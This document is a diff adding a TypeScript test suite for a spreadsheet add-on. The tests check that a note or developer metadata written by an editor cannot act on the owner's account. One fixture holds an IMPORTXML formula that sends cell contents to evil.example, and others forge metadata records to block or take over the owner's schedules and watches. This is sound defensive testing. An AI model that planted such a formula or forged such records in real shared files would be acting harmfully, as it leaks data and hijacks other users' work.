@@ -1,0 +1,141 @@
+// What an editor writes is never authority for the owner's account, on the built bundle: an owner
+// Ana and an editor Ben, who can type into any cell, write notes, and run a script of his own on
+// the file that writes DOCUMENT-visible developer metadata (D2). Each attack broke before this
+// round's change (issue 60): Restore wrote the note's formula, and the forged records were read.
+import { startWorld, type World } from './harness';
+import { sidebar } from '../sidebarApi';
+import type { LeadWatchInput } from '../../src/contract/leads';
+import type { Schedule } from '../../src/contract/schedules';
+
+let w: World;
+afterEach(() => w?.close());
+
+const ANA = 'ana@agency.example';
+const BEN = 'ben@agency.example';
+const BENS_SCRIPT = 'ben-script';
+const HOUR = 3600 * 1000;
+
+function list(sites: string[]) {
+  const sheet = w.rt.spreadsheet.activeSheet;
+  sheet.setName('Prospects');
+  sheet.probe.rows = [['Website', 'Company', 'Owner'], ...sites.map((s) => [s, 'Co', 'me'])].map(
+    (r) => r.map((value) => ({ value })),
+  );
+  return sheet;
+}
+
+/** Ben's own script writes an entry the add-on can read (DOCUMENT) and one it cannot (PROJECT). */
+function forge(key: string, value: unknown) {
+  for (const visibility of ['DOCUMENT', 'PROJECT'] as const)
+    w.rt.spreadsheet.addForeignDeveloperMetadata(
+      BENS_SCRIPT,
+      key,
+      JSON.stringify(value),
+      visibility,
+    );
+}
+
+describe('Restore from an editor’s note', () => {
+  it('never writes the note’s formula, and clears nothing', async () => {
+    w = await startWorld({ owner: ANA });
+    const sheet = list(['a.com', 'b.com', 'c.com']);
+    sheet
+      .getRange(1, 1)
+      .setNote(
+        'Frozen by Visibility for Sheets (4x3): =IMPORTXML("https://evil.example/?d="&B2&B3&B4,"//a")',
+      );
+    const before = sheet.probe.rows.map((r) => r.map((c) => c.value));
+    sheet.setActiveSelection('A1:C4');
+    const out = sidebar(w.rt, ANA).restoreSelection();
+    expect(out).toMatchObject({ state: 'nothing', changed: 0 });
+    expect(out.message).toMatch(/frozen by someone else, or its note was changed/);
+    expect(sheet.probe.rows.flat().some((c) => c.formula)).toBe(false);
+    expect(sheet.probe.rows.map((r) => r.map((c) => c.value))).toEqual(before);
+  });
+
+  it('leaves what Ana froze to Ana: Ben’s Restore, or a note Ben edited, writes no formula', async () => {
+    w = await startWorld({ owner: ANA });
+    const sheet = list(['nike.com', 'slack.com']);
+    sheet.probe.rows[1]![3] = { value: '', formula: '=VIS_SCORE(A2:A3)' };
+    w.rt.recalculate();
+    sheet.setActiveSelection('D2');
+    expect(sidebar(w.rt, ANA).freezeSelection()).toMatchObject({ state: 'done', changed: 1 });
+    expect(sidebar(w.rt, BEN).restoreSelection()).toMatchObject({ changed: 0 });
+    const note = sheet.cell(2, 4).note!;
+    sheet.getRange('D2').setNote(note.replace('=VIS_SCORE(A2:A3)', '=VIS_SCORE(A2:A3)&"x"'));
+    expect(sidebar(w.rt, ANA).restoreSelection()).toMatchObject({ changed: 0 });
+    expect(sheet.cell(2, 4).formula).toBeUndefined();
+    sheet.getRange('D2').setNote(note);
+    expect(sidebar(w.rt, ANA).restoreSelection()).toMatchObject({ state: 'done', changed: 1 });
+    expect(sheet.cell(2, 4).formula).toBe('=VIS_SCORE(A2:A3)');
+  });
+});
+
+describe('developer metadata another script wrote', () => {
+  it('a never-lapsing Generate claim does not stop Ana’s Generate', async () => {
+    w = await startWorld({ owner: ANA });
+    const sheet = list(['nike.com', 'slack.com']);
+    forge('vis.generating', { run: 'bens-forever', until: 8.6e15 });
+    sheet.setActiveSelection('A2:A3');
+    expect(sidebar(w.rt, ANA).startPreviewsForSelection()).toMatchObject({ state: 'done' });
+  });
+
+  it('a forged watch record blocks nobody from watching a sheet', async () => {
+    w = await startWorld({ owner: ANA });
+    w.rt.submitForm('Form Responses 1', { 'Your website': 'early.com' });
+    const form = w.rt.spreadsheet.getSheetByName('Form Responses 1')!;
+    forge('vis.watch.forged', {
+      id: 'forged',
+      sheetId: form.getSheetId(),
+      sheetName: 'Form Responses 1',
+      website: 'Your website',
+      owner: BEN,
+      created: 1,
+      stats: { day: '2026-01-01', reports: 0, emails: 0, waiting: 0, lastNewRow: null },
+    });
+    const watch: LeadWatchInput = {
+      sheetName: 'Form Responses 1',
+      website: 'Your website',
+      email: '',
+      consent: '',
+      mode: 'link',
+      subject: '',
+      body: '',
+    };
+    expect(sidebar(w.rt, ANA).saveLeadWatch(watch)).toMatchObject({ ok: true });
+    expect(
+      sidebar(w.rt, ANA)
+        .getLeads()
+        .watches.map((x) => x.owner),
+    ).toEqual([ANA]);
+  });
+
+  it('a run record naming Ben neither stops Ana’s schedule nor lets Ben take it over', async () => {
+    w = await startWorld({ owner: ANA });
+    list(['nike.com', 'slack.com']);
+    const daily: Schedule = {
+      action: 'refreshScores',
+      sheetName: 'Prospects',
+      every: 'day',
+      hour: 9,
+      refresh: 'all',
+      alert: { email: true, minChange: 5 },
+    };
+    const saved = sidebar(w.rt, ANA).saveSchedule(daily).schedule!;
+    forge(`vis.schedule.${saved.id}`, {
+      lastRun: 1,
+      lastResult: 'ok',
+      failures: 0,
+      paused: false,
+      owner: BEN,
+    });
+    const seen = sidebar(w.rt, BEN).getSchedules()[0]!;
+    expect(seen).toMatchObject({ owner: ANA, mayTakeOver: false });
+    for (let i = 0; i < 26; i++) await w.elapse(HOUR);
+    const ana = sidebar(w.rt, ANA).getSchedules();
+    expect(ana).toHaveLength(1);
+    expect(ana[0]).toMatchObject({ mine: true, owner: ANA });
+    expect(ana[0]!.lastResult ?? '').not.toMatch(/Taken over/);
+    expect(ana[0]!.lastRun).not.toBeNull();
+  }, 60000);
+});
